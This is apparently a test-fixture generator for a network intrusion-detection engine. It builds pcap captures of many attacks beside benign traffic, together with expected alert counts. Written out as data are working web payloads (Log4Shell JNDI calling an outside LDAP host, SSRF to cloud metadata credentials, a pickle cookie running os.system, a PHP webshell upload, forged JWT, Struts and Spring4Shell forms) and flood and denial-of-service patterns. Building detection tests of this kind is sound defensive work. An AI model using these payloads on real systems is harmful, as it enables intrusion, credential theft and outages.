"""Generate the threat captures and their expected-events files (run from the repository root):

    python -m tests.detect.pcaps.generate

Each scenario is a list of IP packets with capture times, the threat settings it is replayed with, and
the threat events it must raise, written down here by hand (totals per threat name, aggregated repeats
included): `<name>.pcap` (raw-IP link type) and `<name>.expected.json`. No network I/O; deterministic.
`tests/detect/test_captures.py` replays each capture through the worker's detection core and compares.
"""

from __future__ import annotations

import json
import struct
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

from core.packet import TCP_ACK, TCP_FIN, TCP_PSH, TCP_RST, TCP_SYN

from ..build import handshake, icmp, ipv4, mss, ssh_conversation, tcp, tcp4, udp, wscale

HERE = Path(__file__).parent
Packets = list[tuple[float, bytes]]

C = "198.18.9.1"  # client
S = "198.18.1.10"  # server
T0 = 1_700_000_000.0


class Tcp:
    """One TCP conversation with consistent sequence numbers (what the DPI reassembly expects)."""

    def __init__(self, out: Packets, t: float, client: str, cport: int, server: str, sport: int) -> None:
        self.out, self.t = out, t
        self.ends = [(client, cport), (server, sport)]
        self.seq = [1000, 5000]
        self.windows = [65535, 65535]  # what each side offers unless told otherwise

    def _emit(self, side: int, flags: int, data: bytes = b"", **kw: Any) -> None:
        (src, sp), (dst, dp) = self.ends[side], self.ends[1 - side]
        kw.setdefault("window", self.windows[side])
        ack = self.seq[1 - side] if flags & TCP_ACK else 0
        self.out.append(
            (self.t, ipv4(src, dst, 6, tcp(sp, dp, flags, self.seq[side], ack, payload=data, **kw)))
        )
        self.seq[side] += len(data) + (1 if flags & (TCP_SYN | TCP_FIN) else 0)
        self.t += 0.001

    def handshake(self, window: int = 65535, scale: int = 7) -> Tcp:
        """SYN, SYN-ACK, ACK; the client offering `window` (shifted by `scale`; -1: no window scaling)."""
        scaling = wscale(scale) if scale >= 0 else b""
        self.windows[0] = window
        self._emit(0, TCP_SYN, options=mss(1460) + scaling)
        self._emit(1, TCP_SYN | TCP_ACK, options=mss(1460) + scaling)
        self._emit(0, TCP_ACK)
        return self

    def ack(self, side: int, window: int) -> Tcp:
        """A bare acknowledgement of all the other side sent, offering `window`."""
        self._emit(side, TCP_ACK, window=window)
        return self

    def send(self, side: int, data: bytes) -> Tcp:
        for i in range(0, len(data), 1400):
            self._emit(side, TCP_ACK | TCP_PSH, data[i : i + 1400])
        return self

    def wait(self, seconds: float) -> Tcp:
        self.t += seconds
        return self

    def close(self) -> Tcp:
        self._emit(0, TCP_ACK | TCP_FIN)
        self._emit(1, TCP_ACK | TCP_FIN)
        self._emit(0, TCP_ACK)
        return self


def http(method: bytes, uri: bytes, headers: list[bytes] | None = None, body: bytes = b"") -> bytes:
    lines = [method + b" " + uri + b" HTTP/1.1", b"Host: shop.example", *(headers or [])]
    if body and not any(
        h.lower().startswith((b"content-length", b"transfer-encoding")) for h in headers or []
    ):
        lines.append(b"Content-Length: " + str(len(body)).encode())
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def http_exchange(requests: list[bytes], cport: int = 40000, t: float = T0) -> Packets:
    out: Packets = []
    conv = Tcp(out, t, C, cport, S, 80).handshake()
    for req in requests:
        conv.send(0, req).send(1, b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Length: 2\r\n\r\nok")
    conv.close()
    return out


def h2c_rapid_reset(streams: int) -> bytes:
    """A cleartext HTTP/2 client opening `streams` GETs and cancelling each at once (CVE-2023-44487)."""
    import hpack

    def frame(ftype: int, flags: int, stream: int, payload: bytes) -> bytes:
        return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + struct.pack("!I", stream) + payload

    enc = hpack.Encoder()
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
    for i in range(streams):
        block = enc.encode([(":method", "GET"), (":scheme", "http"), (":authority", "shop"), (":path", "/")])
        out += frame(1, 0x5, 2 * i + 1, block) + frame(3, 0, 2 * i + 1, struct.pack("!I", 8))
    return out


def h2c_control_flood(pings: int, continuations: int) -> bytes:
    """A cleartext HTTP/2 client sending `pings` PINGs (CVE-2019-9512), or a header block it spreads over
    `continuations` CONTINUATION frames (the 2024 CONTINUATION flood)."""

    def frame(ftype: int, flags: int, stream: int, payload: bytes) -> bytes:
        return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + struct.pack("!I", stream) + payload

    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(6, 0, 0, bytes(8)) * pings
    if continuations:
        out += frame(1, 0x1, 1, b"\x82\x86\x84") + frame(9, 0, 1, b"\x40\x01a\x01b") * continuations
    return out


def dns_name(name: str) -> bytes:
    return b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"


def dns_query(ident: int, name: str, qtype: int) -> bytes:
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + dns_name(name) + struct.pack("!HH", qtype, 1)


def udp_pkt(t: float, src: str, sport: int, dst: str, dport: int, data: bytes) -> tuple[float, bytes]:
    return (t, ipv4(src, dst, 17, udp(sport, dport, data)))


def tls_record(ctype: int, body: bytes, version: int = 0x0303) -> bytes:
    return struct.pack("!BHH", ctype, version, len(body)) + body


def client_hello(version: int = 0x0303) -> bytes:
    sni = b"shop.example"
    sni_ext = struct.pack("!HHHBH", 0, len(sni) + 5, len(sni) + 3, 0, len(sni)) + sni
    body = struct.pack("!H", version) + b"r" * 32 + b"\x00" + b"\x00\x04\x13\x01\xc0\x2f" + b"\x01\x00"
    body += struct.pack("!H", len(sni_ext)) + sni_ext
    return tls_record(22, b"\x01" + len(body).to_bytes(3, "big") + body, 0x0301)


def server_hello(version: int) -> bytes:
    body = struct.pack("!H", version) + b"s" * 32 + b"\x00" + b"\xc0\x2f\x00" + b"\x00\x00"
    return tls_record(22, b"\x02" + len(body).to_bytes(3, "big") + body, version)


# -- scenarios: (packets, threat settings, expected totals per threat) --------------------------------------


def packet_threats() -> tuple[Packets, Any, dict[str, int]]:
    out: Packets = []
    t = T0
    out.append((t, tcp4(C, 1000, S, 80, TCP_SYN | TCP_FIN)))  # bad_packet
    out.append((t, tcp4(C, 1001, S, 80, 0)))  # bad_packet (null scan)
    out.append((t, tcp4(C, 1002, S, 80, TCP_SYN, payload=b"early data")))  # tcp_syn_data
    out.append((t, tcp4(C, 1003, S, 80, TCP_SYN, options=mss(32))))  # tcp_small_mss
    out += [(t, tcp4(C, 1004, S, 80, TCP_SYN)), (t, tcp4(S, 80, C, 1004, TCP_SYN, seq=77))]  # split handshake
    # tcp_small_window: a handshake without window scaling, then a 4-byte window
    out += [(t, b) for b in handshake(C, 1005, S, 80)]
    out += [(t + 0.01, tcp4(C, 1005, S, 80, TCP_ACK, seq=1001, ack=5001, window=4))]
    idle: Packets = []
    Tcp(idle, t, C, 1006, S, 80).handshake()
    out += idle + [(t + 31, tcp4(C, 1006, S, 80, TCP_ACK, seq=1001, ack=5001))]  # tcp_no_data
    out.append((t, ipv4(C, S, 17, udp(1, 2, b"a" * 32), ident=9, more=True)))
    out.append((t, ipv4(C, S, 17, b"b" * 16, ident=9, frag_off=24)))  # ip_teardrop
    out.append((t, ipv4(C, S, 1, b"x" * 1000, ident=5, frag_off=65000)))  # ping_of_death
    out.append((t, ipv4(C, S, 1, icmp(8, ident=3, seq=1, payload=b"GET /etc/shadow"))))
    out.append((t, ipv4(S, C, 1, icmp(0, ident=3, seq=1, payload=b"root:x:0:0:..."))))  # icmp_tunneling
    out.append((t, tcp4("10.0.0.5", 1007, "203.0.113.7", 443, TCP_SYN)))  # k8s_extip_mitm
    out.sort(key=lambda p: p[0])
    settings = {"default": {"k8s_extip_mitm": {"external_ips": ["203.0.113.7"]}}}
    # tcp_no_data twice: flow 1006 on its late ACK, and flow 1005 (no data either) by the sweep
    expected = {"bad_packet": 2, "tcp_syn_data": 1, "tcp_small_mss": 1, "tcp_split_handshake": 1,
                "tcp_small_window": 1, "tcp_no_data": 2, "ip_teardrop": 1, "ping_of_death": 1,
                "icmp_tunneling": 1, "k8s_extip_mitm": 1}  # fmt: skip
    return out, settings, expected


def floods() -> tuple[Packets, Any, dict[str, int]]:
    out: Packets = []
    # 3000 SYNs in 1.5 s from one source, none completing. The readers' guard sees only first packets:
    # the destination is watched once it passes the default 1000 SYNs/s, one followed SYN in four counts
    # for four half-open ones, so the source's half-open count passes 1000 about a thousand SYNs later;
    # every SYN from then on is a finding (997).
    for i in range(3000):
        out.append((T0 + i * 0.0005, tcp4("198.18.7.7", 10000 + i, S, 443, TCP_SYN)))
    for i in range(600):  # 600 echo requests in 0.6 s: 100 over 500/s
        out.append((T0 + 2 + i * 0.001, ipv4("198.18.7.8", S, 1, icmp(8, ident=1, seq=i, payload=b"p" * 56))))
    for i in range(150):  # one source probing 150 ports (100 per 10 s is the threshold: 51 findings)
        out.append((T0 + 4 + i * 0.01, tcp4("198.18.7.9", 45000, S, 1 + i, TCP_SYN)))
        out.append(
            (
                T0 + 4 + i * 0.01 + 0.001,
                tcp4(S, 1 + i, "198.18.7.9", 45000, TCP_RST | TCP_ACK, seq=0, ack=1001),
            )
        )
    out.sort(key=lambda p: p[0])
    # refused probes: 150 resets also pass the resets threshold (50): 101 more port_scan findings
    return out, None, {"syn_flood": 997, "icmp_flood": 100, "port_scan": 51 + 101}


def http_attacks() -> tuple[Packets, Any, dict[str, int]]:
    struts = (b"<map><entry><jdk.nashorn.internal.objects.NativeString>"
              b"<value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\">"
              b"<filter class=\"javax.imageio.ImageIO$ContainsFilter\">"
              b"<class>java.lang.ProcessBuilder</class></filter></value></jdk.nashorn.internal.objects."
              b"NativeString></entry></map>")  # fmt: skip
    out = http_exchange([http(b"GET", b"/search?q=1%27%20UnIoN%20SeLeCt%20NULL,NULL--")], 40001)
    out += http_exchange([http(b"GET", b"/profile?bio=%3Csvg%2Fonload%3Dalert(1)%3E")], 40002)
    out += http_exchange([http(b"POST", b"/login", [b"Content-Type: application/json"],
                               b'{"user": "admin\' or \'1\'=\'1", "pass": "x"}')], 40003)  # fmt: skip
    out += http_exchange([http(b"POST", b"/orders/3", [b"Content-Type: application/xml"], struts)], 40004)
    out += http_exchange(
        [http(b"POST", b"/", [b"Content-Length: 0", b"Transfer-Encoding: chunked"], b"0\r\n\r\n")], 40005
    )
    out += http_exchange([http(b"GET", b"/", [b"Content-Length: -5"])], 40006)
    # log4shell: a scanner's JNDI lookup, hidden behind Log4j's own lookups, in User-Agent
    lookup = b"User-Agent: ${${::-j}${lower:N}di:${::-l}dap://198.18.0.9:1389/a}"
    out += http_exchange([http(b"GET", b"/", [lookup])], 40008)
    # path_traversal: a file-disclosure probe's climb in a query value, encoded as a scanner sends it
    out += http_exchange([http(b"GET", b"/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", [])], 40009)
    # xxe: an XML body whose DTD declares an external entity (a file read into the document)
    xxe = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/hostname">]><r>&f;</r>'
    out += http_exchange([http(b"POST", b"/api/import", [b"Content-Type: application/xml"], xxe)], 40010)
    # ssrf: a webhook URL that points the server at the node's cloud metadata service
    hook = b'{"name": "deploy", "url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}'
    out += http_exchange([http(b"POST", b"/api/webhooks", [b"Content-Type: application/json"], hook)], 40011)
    # crlf_injection: a redirect's target that splits the response to set a cookie
    out += http_exchange([http(b"GET", b"/redirect?to=%2F%0D%0ASet-Cookie:%20sid=fixed", [])], 40012)
    # java_deserialization: Fastjson asked for a JNDI-looking-up class (marshalsec's payload)
    typed = b'{"a": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://198.18.0.9/x"}}'
    out += http_exchange([http(b"POST", b"/api/orders", [b"Content-Type: application/json"], typed)], 40013)
    # spring_rce: Spring4Shell's form, pointing Tomcat's access log at a JSP
    bound = b"class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
    form = [b"Content-Type: application/x-www-form-urlencoded"]
    out += http_exchange([http(b"POST", b"/", form, bound)], 40014)
    # php_object_injection: a cookie holding a serialized object, as phpggc writes a chain (percent-encoded)
    chain_cookie = (
        b"Cookie: prefs=O%3A24%3A%22GuzzleHttp%5CPsr7%5CFnStream%22%3A1%3A%7Bs%3A1%3A%22x%22%3Bi%3A1%3B%7D"
    )
    out += http_exchange([http(b"GET", b"/account", [chain_cookie])], 40015)
    # sensitive_file_access: a scanner's probe for a repository's metadata
    out += http_exchange([http(b"GET", b"/.git/config", [])], 40016)
    # template_injection: a greeting's name that a Jinja2 template would evaluate, walking to every class
    walk = b"/hello?name=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__%28%29%7D%7D"
    out += http_exchange([http(b"GET", walk, [])], 40017)
    # prototype_pollution: a JSON settings merge carrying a key that walks to Object.prototype
    merge = b'{"theme": "dark", "__proto__": {"isAdmin": true}}'
    out += http_exchange([http(b"POST", b"/api/settings", [b"Content-Type: application/json"], merge)], 40018)
    # insecure_deserialization: a session cookie holding a pickle (protocol 0) that calls os.system
    pickled = b"Cookie: session=Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg=="
    out += http_exchange([http(b"GET", b"/dashboard", [pickled])], 40019)
    # webshell_upload: a PHP shell uploaded through a form's file field
    shell = (
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="shell.php"\r\n'
        b'Content-Type: application/x-php\r\n\r\n<?php system($_GET["c"]); ?>\r\n--b--\r\n'
    )
    upload = [b"Content-Type: multipart/form-data; boundary=b"]
    out += http_exchange([http(b"POST", b"/upload", upload, shell)], 40020)
    # jwt_forgery: an unsigned token (alg none) claiming the admin role
    unsigned = b"Authorization: Bearer eyJhbGciOiAibm9uZSJ9.eyJzdWIiOiAiYWxpY2UiLCAicm9sZSI6ICJhZG1pbiJ9."
    out += http_exchange([http(b"GET", b"/api/admin", [unsigned])], 40021)
    # http2_rapid_reset: an h2c client opening 150 streams and cancelling each at once
    Tcp(out, T0 + 3, C, 40022, S, 80).handshake().send(0, h2c_rapid_reset(150))
    # http2_control_flood: an h2c client's 1,500 PINGs, and another's header block in 150 CONTINUATIONs
    Tcp(out, T0 + 3, C, 40023, S, 80).handshake().send(0, h2c_control_flood(1500, 0))
    Tcp(out, T0 + 3, C, 40024, S, 80).handshake().send(0, h2c_control_flood(0, 150))
    slow: Packets = []
    conv = Tcp(slow, T0 + 1, C, 40007, S, 80).handshake()
    conv.send(0, b"GET / HTTP/1.1\r\nHost: shop.example\r\n").wait(15).send(0, b"X-a: 1\r\n").wait(15)
    conv.send(0, b"X-b: 2\r\n")
    out += slow
    out.sort(key=lambda p: p[0])
    return out, None, {"sql_injection": 2, "xss": 1, "struts_rce": 1, "http_smuggling": 1,
                       "http_negative_length": 1, "http_slowloris": 1, "log4shell": 1,
                       "path_traversal": 1, "xxe": 1, "ssrf": 1, "crlf_injection": 1,
                       "java_deserialization": 1, "spring_rce": 1, "php_object_injection": 1,
                       "sensitive_file_access": 1, "template_injection": 1,
                       "prototype_pollution": 1, "insecure_deserialization": 1, "webshell_upload": 1,
                       "jwt_forgery": 1, "http2_rapid_reset": 1,
                       "http2_control_flood": 2}  # fmt: skip


TUNNEL_NAME = "p2mwsg3l5a4i7bpnjvwygm4k3lh7yyk6dqjgyvlhjhtoo5sbbc3qabgn6s6etx.t.example.com"
HEADER_ONE_QUESTION = struct.pack("!HHHHHH", 3, 0x0100, 1, 0, 0, 0)
BENIGN_NAMES = (
    "www.example.com",
    "this-is-a-rather-long-but-legitimate-hostname.example.com",
    "internal-my-elb-1234567890.us-east-1.elb.amazonaws.com",
    "_sip._tcp.example.com",
)


def dns_attacks() -> tuple[Packets, Any, dict[str, int]]:
    t = T0
    out: Packets = [
        udp_pkt(t, C, 5001, S, 53, dns_query(1, "t.example.com", 10)),  # dns_null_type
        udp_pkt(t, C, 5002, S, 53, dns_query(2, TUNNEL_NAME, 16)),  # dns_tunneling
        udp_pkt(t, C, 5003, S, 53, HEADER_ONE_QUESTION + b"\xc0\x0c\x00\x01\x00\x01"),  # dns_pointer_loop
    ]  # fmt: skip
    big = (
        struct.pack("!HHHHHH", 4, 0x8180, 1, 60, 0, 0)
        + dns_name("www.example.com")
        + struct.pack("!HH", 1, 1)
    )
    big += (b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + b"\x01\x02\x03\x04") * 60
    out.append(udp_pkt(t, S, 53, C, 5004, big))  # dns_overflow: 1 KB over UDP without EDNS
    axfr = dns_query(5, "example.com", 252)
    conv = Tcp(out, t, C, 5005, S, 53).handshake()
    conv.send(0, struct.pack("!H", len(axfr)) + axfr)  # dns_zone_transfer over TCP
    out.sort(key=lambda p: p[0])
    return out, None, {"dns_null_type": 1, "dns_tunneling": 1, "dns_pointer_loop": 1, "dns_overflow": 1,
                       "dns_zone_transfer": 1}  # fmt: skip


def tls_ssh_attacks() -> tuple[Packets, Any, dict[str, int]]:
    out: Packets = []
    Tcp(out, T0, C, 443, S, 4433).handshake()  # a port where nothing is expected: identified from payload
    hb: Packets = []
    Tcp(hb, T0, C, 41001, S, 443).handshake().send(0, client_hello()).send(
        0, tls_record(24, b"\x01\x40\x00" + b"x" * 16)
    )
    ssl3: Packets = []
    Tcp(ssl3, T0, C, 41002, S, 443).handshake().send(0, client_hello()).send(1, server_hello(0x0300))
    tls10: Packets = []
    Tcp(tls10, T0, C, 41003, S, 443).handshake().send(0, client_hello()).send(1, server_hello(0x0301))
    v2body = b"\x01" + struct.pack("!HHHH", 0x0002, 3, 0, 16) + b"\x07\x00\xc0" + b"c" * 16
    v2: Packets = []
    Tcp(v2, T0, C, 41004, S, 443).handshake().send(
        0, bytes([0x80 | (len(v2body) >> 8), len(v2body) & 0xFF]) + v2body
    )
    ssh: Packets = []
    Tcp(ssh, T0, C, 41005, S, 22).handshake().send(1, b"SSH-1.5-OpenSSH_1.2.3\r\n").send(
        0, b"SSH-1.5-client\r\n"
    )
    out = hb + ssl3 + tls10 + v2 + ssh
    out.sort(key=lambda p: p[0])
    settings = {"default": {"tls_1_0": {"enabled": True}}}
    # ssh_v1: the server's and the client's banners
    return out, settings, {"heartbleed": 1, "ssl_v2_v3": 2, "tls_1_0": 1, "ssh_v1": 2}


def benign() -> tuple[Packets, Any, dict[str, int]]:
    out: Packets = []
    t = T0
    for i in range(20):
        q = [b"O%27Brien+pizza", b"rock+%26+roll", b"select+the+best+union+rep", b"price+%3C+100"][i % 4]
        out += http_exchange(
            [http(b"GET", b"/search?q=" + q + b"&page=2", [b"User-Agent: curl/8.5"])], 30000 + i, t + i
        )
    out += http_exchange([http(b"POST", b"/api/notes", [b"Content-Type: application/json"],
                               b'{"title": "Don\'t drop the table", "tags": ["sql", "union"], '
                               b'"blob": "aGVsbG8gd29ybGQ="}')],
                         31000, t + 30)  # fmt: skip
    for i in range(30):
        name = BENIGN_NAMES[i % 4]
        out.append(udp_pkt(t + 40 + i, C, 6000 + i, S, 53, dns_query(100 + i, name, 1 if i % 2 else 28)))
    for i in range(10):
        out.append((t + 80 + i, ipv4(C, S, 1, icmp(8, ident=9, seq=i, payload=bytes(range(56))))))
        out.append((t + 80 + i + 0.001, ipv4(S, C, 1, icmp(0, ident=9, seq=i, payload=bytes(range(56))))))
    tls: Packets = []
    Tcp(tls, t + 100, C, 32000, S, 443).handshake().send(0, client_hello()).send(
        1, server_hello(0x0303)
    ).close()
    out += tls
    ssh: Packets = []
    Tcp(ssh, t + 110, C, 32001, S, 22).handshake().send(1, b"SSH-2.0-OpenSSH_9.6\r\n").send(
        0, b"SSH-2.0-client\r\n"
    )
    out += ssh
    out.sort(key=lambda p: p[0])
    return out, None, {}


def http_answered(requests: list[tuple[bytes, bytes]], cport: int, t: float, client: str = C) -> Packets:
    """One keep-alive connection: each request answered with its own response."""
    out: Packets = []
    conv = Tcp(out, t, client, cport, S, 80).handshake()
    for req, resp in requests:
        conv.send(0, req).send(1, resp).wait(0.5)
    conv.close()
    return out


def answer(status: bytes, body: bytes) -> bytes:
    return b"HTTP/1.1 " + status + b"\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body


def threat_classes() -> tuple[Packets, Any, dict[str, int]]:
    """The classes added for traffic nobody here wrote: brute force, UDP and DNS floods, slow HTTP,
    encrypted Heartbleed, desync forms, compression abuse; each beside a benign twin that stays quiet."""
    out: Packets = []
    t = T0
    # ssh_brute_force: 35 short SSH sessions from one source in 35 s; the 31st..35th are over 30 per 60 s
    # (5). A second client's 10 sessions in the same time are no brute force.
    for i in range(35):
        Tcp(out, t + i, C, 42000 + i, S, 22).handshake().send(1, b"SSH-2.0-OpenSSH_9.2\r\n").send(
            0, b"SSH-2.0-libssh_0.10\r\n"
        ).close()
    for i in range(10):
        Tcp(out, t + i * 3, "198.18.9.2", 42100 + i, S, 22).handshake().close()
    # ssh_brute_force by refused logins: hydra's way, three connections of ten passwords each (the
    # server refuses each alike; the tenth refusal is complete when the client closes). 30 refusals in
    # 6 s: the 21st..30th are over 20 per 60 s (10). A user who mistypes twice and then logs in on the
    # same connection: 2 refusals, no brute force.
    guesses = ssh_conversation((44, 44), (60, 52), *[(76, 52)] * 10)
    for i in range(3):
        conn = Tcp(out, t + 5 + i * 2, "198.18.9.3", 42200 + i, S, 22).handshake()
        for side, data in guesses:
            conn.send(side, data)
        conn.close()
    typo = Tcp(out, t + 5, "198.18.9.4", 42300, S, 22).handshake()
    for side, data in ssh_conversation((44, 44), (60, 52), (84, 52), (84, 52), (84, 28), *[(36, 36)] * 30):
        typo.send(side, data)
    typo.close()
    # http_brute_force: 25 POSTs to /login answered 401 in 12.5 s; the 21st..25th are over 20 per 60 s (5).
    # The same client's 25 POSTs to /api/notes answered 403 count on their own path (20 at most: none),
    # and another client's successful logins count nothing.
    login = http(b"POST", b"/login?next=/", [b"Content-Type: application/x-www-form-urlencoded"], b"u=a&p=x")
    out += http_answered([(login, answer(b"401 Unauthorized", b"no"))] * 25, 43000, t + 40)
    notes = http(b"POST", b"/api/notes", [b"Content-Type: application/json"], b"{}")
    out += http_answered([(notes, answer(b"403 Forbidden", b"read-only"))] * 20, 43001, t + 40)
    out += http_answered([(login, answer(b"200 OK", b"Welcome back"))] * 25, 43002, t + 40, "198.18.9.2")
    # udp_flood: 2500 datagrams in 0.5 s, source port counting up (hping3 --udp): each a new flow; flows
    # 2001..2500 are over 2000 per second from one source (500)
    for i in range(2500):
        out.append(udp_pkt(t + 60 + i * 0.0002, "198.18.7.10", 1024 + i, S, 9, b"\x00" * 8))
    # dns_flood by rate: 1200 queries on one socket (dnsperf-like) in 0.6 s: 1001..1200 over 1000/s (200)
    for i in range(1200):
        out.append(
            udp_pkt(
                t + 62 + i * 0.0005, "198.18.7.11", 5300, S, 53, dns_query(i, f"w{i % 5}.shop.example", 1)
            )
        )
    # dns_flood by NXDOMAIN share: 150 random names under one domain, each asked on a new port and
    # answered NXDOMAIN within 10 s: answers 100..150 reach 100 at a share over one half (51). 150
    # distinct names stay at dns_tunneling's limit (more than 150), and the rate is far below 1000/s.
    for i in range(150):
        name = f"{i * 7919 % 100000:05x}q.victim.example"
        ts = t + 64 + i * 0.05
        out.append(udp_pkt(ts, "198.18.7.12", 20000 + i, S, 53, dns_query(i, name, 1)))
        nx = struct.pack("!HHHHHH", i, 0x8183, 1, 0, 0, 0) + dns_name(name) + struct.pack("!HH", 1, 1)
        out.append(udp_pkt(ts + 0.001, S, 53, "198.18.7.12", 20000 + i, nx))
    # compression abuse: a pointer forward (dns_pointer_loop), a 64-byte label (dns_overflow)
    head = struct.pack("!HHHHHH", 9, 0x0100, 1, 0, 0, 0)
    out.append(udp_pkt(t + 75, C, 5400, S, 53, head + b"\xc0\x12\x00\x01\x00\x01\x03www\x00"))
    out.append(udp_pkt(t + 75, C, 5401, S, 53, head + b"\x40" + b"a" * 64 + b"\x00\x00\x01\x00\x01"))
    # http_slowloris: a head started, then silence; the engine's sweep reports it on the capture's clock
    # once 20 s have passed (1)
    slow: Packets = []
    Tcp(slow, t + 80, C, 44000, S, 80).handshake().send(0, b"GET / HTTP/1.1\r\nHost: shop.example\r\n")
    out += slow
    # http_slow_body: a complete head promising 4096 bytes, then a byte every 12 s (slowhttptest -B): the
    # sweep reports it at 30 s (1) and the next byte, at 36 s, fires on the packet path too (1)
    slow_post: Packets = []
    conv = Tcp(slow_post, t + 80, C, 44001, S, 80).handshake()
    conv.send(0, b"POST /upload HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 4096\r\n\r\n")
    for _ in range(4):
        conv.wait(12).send(0, b"a")
    out += slow_post
    # a benign upload: 64 kB at network speed, answered (no slow body)
    up: Packets = []
    Tcp(up, t + 80, "198.18.9.2", 44002, S, 80).handshake().send(
        0, http(b"POST", b"/upload", [b"Content-Type: application/octet-stream"], b"u" * 65536)
    ).send(1, answer(b"201 Created", b"")).close()
    out += up
    # a clock for the sweeps: keep-alive ticks on another connection until 130 s
    for i in range(50):
        out.append(
            udp_pkt(t + 81 + i, "198.18.9.2", 6100 + i, S, 53, dns_query(900 + i, "www.example.com", 1))
        )
    # encrypted Heartbleed: after ChangeCipherSpec both ways, a 61-byte heartbeat answered by a 16408-byte
    # one (1); a benign session's heartbeat echoes its request's length
    for cport, reply in ((45000, 16408), (45001, 61)):
        hb: Packets = []
        conv = (
            Tcp(hb, t + 140, C, cport, S, 443)
            .handshake()
            .send(0, client_hello())
            .send(1, server_hello(0x0303) + tls_record(20, b"\x01"))
        )
        conv.send(0, tls_record(20, b"\x01") + tls_record(23, b"f" * 40))
        conv.send(0, tls_record(24, b"\x5a" * 61)).send(1, tls_record(24, b"\xa5" * reply)).close()
        out += hb
    # desync: duplicate different Content-Length; a tab before the colon of Transfer-Encoding; an
    # oversized chunk size (a parser anomaly): 3 http_smuggling; identical repeated lengths stay quiet
    out += http_exchange(
        [http(b"POST", b"/a", [b"Content-Length: 2", b"Content-Length: 20"], b"ok")], 46000, t + 150
    )
    out += http_exchange(
        [http(b"POST", b"/b", [b"Transfer-Encoding\t: chunked"], b"2\r\nok\r\n0\r\n\r\n")], 46001, t + 150
    )
    out += http_exchange(
        [http(b"POST", b"/c", [b"Transfer-Encoding: chunked"], b"fffffffff0\r\nok\r\n0\r\n\r\n")],
        46002,
        t + 150,
    )
    out += http_exchange(
        [http(b"POST", b"/d", [b"Content-Length: 2", b"Content-Length: 2"], b"ok")], 46003, t + 150
    )
    # http_range_dos: slowhttptest -R's head (`bytes=0-,5-0,5-1,…`, 1300 ranges) (1); a media player's
    # open-ended range and a PDF viewer's three stay quiet
    # tcp_slow_read (slowhttptest -X, as recorded in the lab): a 1152-byte window filled at once, then
    # shut while the server probes it ever more rarely, for 28 s (1); a download paused as long behind a
    # window that was 64 KB stays quiet
    for cport, window, scale in ((46007, 1152, -1), (46008, 512, 7)):
        rd: Packets = []
        conv = Tcp(rd, t + 150, C, cport, S, 80).handshake(window, scale)
        conv.send(0, http(b"GET", b"/big.bin", [b"User-Agent: slowhttptest"]))
        conv.send(1, b"HTTP/1.1 200 OK\r\nContent-Length: 2097152\r\n\r\n" + b"x" * 1100).ack(0, 0)
        for gap in (0.2, 0.4, 0.9, 1.7, 3.5, 7.0, 13.9):
            conv.wait(gap).ack(1, 65535).ack(0, 0)  # the server probes the shut window; still shut
        out += rd
    killer = b"Range: bytes=0-," + b",".join(b"5-%d" % i for i in range(1299))
    out += http_exchange([http(b"HEAD", b"/", [killer, b"Accept-Encoding: gzip"])], 46004, t + 150)
    out += http_exchange([http(b"GET", b"/v.mp4", [b"Range: bytes=1048576-"])], 46005, t + 150)
    out += http_exchange(
        [http(b"GET", b"/d.pdf", [b"Range: bytes=0-99,4096-8191,65536-70000"])], 46006, t + 150
    )
    out.sort(key=lambda p: p[0])
    expected = {"ssh_brute_force": 5 + 10, "http_brute_force": 5, "udp_flood": 500, "dns_flood": 200 + 51,
                "dns_pointer_loop": 1, "dns_overflow": 1, "http_slowloris": 1, "http_slow_body": 2,
                "heartbleed": 1, "http_smuggling": 3, "http_range_dos": 1, "tcp_slow_read": 1}  # fmt: skip
    return out, None, expected


SCENARIOS: dict[str, Callable[[], tuple[Packets, Any, dict[str, int]]]] = {
    "packet_threats": packet_threats,
    "floods": floods,
    "http_attacks": http_attacks,
    "dns_attacks": dns_attacks,
    "tls_ssh_attacks": tls_ssh_attacks,
    "benign": benign,
    "threat_classes": threat_classes,
}


def write_pcap(path: Path, packets: Packets) -> None:
    """pcap, link type 101 (raw IP), microsecond timestamps."""
    with path.open("wb") as f:
        f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 101))
        for t, ip in packets:
            sec = int(t)
            f.write(struct.pack("<IIII", sec, int(round((t - sec) * 1e6)), len(ip), len(ip)) + ip)


def main(argv: list[str]) -> int:
    for name, build in SCENARIOS.items():
        packets, settings, expected = build()
        write_pcap(HERE / f"{name}.pcap", packets)
        doc = {"threat_settings": settings, "expected": dict(sorted(expected.items()))}
        (HERE / f"{name}.expected.json").write_text(json.dumps(doc, indent=1, sort_keys=True) + "\n")
        print(f"{name}: {len(packets)} packets, expects {sum(expected.values())} threat findings")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
